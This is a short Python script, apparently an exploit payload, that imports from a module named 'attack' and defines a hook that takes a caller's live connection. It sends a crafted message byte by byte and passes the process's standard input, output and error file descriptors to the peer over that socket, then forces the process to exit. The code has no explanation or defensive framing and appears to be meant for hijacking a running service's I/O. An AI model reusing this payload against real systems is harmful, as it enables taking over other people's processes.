import os
import socket

from attack import *


@at_call
def pass_on():
    connection = local_of_a_caller("connection")
    for byte in message({"dict": [[{"str": "value"}, True]]}):
        socket.send_fds(connection, [bytes([byte])], [0, 1, 2, connection.fileno()])
    os._exit(0)
